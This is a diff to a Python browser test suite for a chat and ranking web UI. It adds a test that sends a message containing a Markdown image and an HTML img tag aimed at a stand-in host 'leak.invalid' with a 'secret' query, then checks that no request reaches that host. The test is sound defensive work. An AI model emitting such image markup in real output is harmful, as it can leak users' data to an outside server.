@@ -11,7 +11,9 @@ One walk through the page, as a user would do it:
 
 A walk in Rank mode, on the tiny model: send, see k replies side by side, give two of
 them the same place and be told, fix the places, save, and find the ranking (and how
-each reply was sampled and where it was shown) in the database.
+each reply was sampled and where it was shown) in the database. Then a message with a
+Markdown image and an <img> pointing at another host: the browser requests nothing
+from it (messages and replies are shown through one function, `ui.safe_markdown`).
 
 A second walk, on the tiny model with two published adapters (v000002 serving, v000001
 its parent): open the Dashboard tab, see a wrong password show nothing, log in, see the
@@ -348,6 +350,7 @@ def test_rank_replies_in_browser(tmp_path, tiny_dir):
     def walk(page, url):
         _rank_walk_through(page, url)
         _check_ranking(db_path)
+        _remote_images_not_loaded(page)
 
     _in_browser(args, tmp_path, log_path, walk, "rank.png")
 
@@ -405,6 +408,27 @@ def _check_ranking(db_path: Path) -> None:
     assert {p["variant"] for p in params} == {"temperature-spread"}, params
     assert sorted(p["temperature"] for p in params) == [0.4, 0.7, 1.0] and {p["user_temperature"] for p in params} == {0.7}, params
     assert _db_rows(db_path, "SELECT COUNT(*) AS n FROM comparisons")[0]["n"] == 0  # the refused attempt stored nothing
+
+
+LEAK_HOST = "leak.invalid"
+IMAGE_MSG = f'Look: ![chart](http://{LEAK_HOST}/md?q=secret) and <img src="http://{LEAK_HOST}/html">'
+
+
+def _remote_images_not_loaded(page) -> None:
+    requested: list[str] = []
+    page.on("request", lambda request: requested.append(request.url) if LEAK_HOST in request.url else None)
+    page.locator('#mode input[value="chat"]').check()
+    n_users = page.locator(USER).count()
+    _send(page, IMAGE_MSG)
+    page.wait_for_function(
+        "([sel, n]) => { const users = document.querySelectorAll(sel); return users.length > n && users[n].innerText.includes('Look:'); }",
+        arg=[USER, n_users],
+    )
+    page.wait_for_timeout(1000)  # time for any image request to start
+    assert page.locator(f"#chatbot img[src*='{LEAK_HOST}']").count() == 0, "an image from a message was rendered"
+    assert requested == [], f"the page requested {requested}"
+    shown = page.locator(USER).last.inner_text()
+    assert "!chart" in shown and f'<img src="http://{LEAK_HOST}/html">' in shown, shown  # shown as text and a link
 
 
 # -- the administrators' dashboard ---------------------------------------------------------
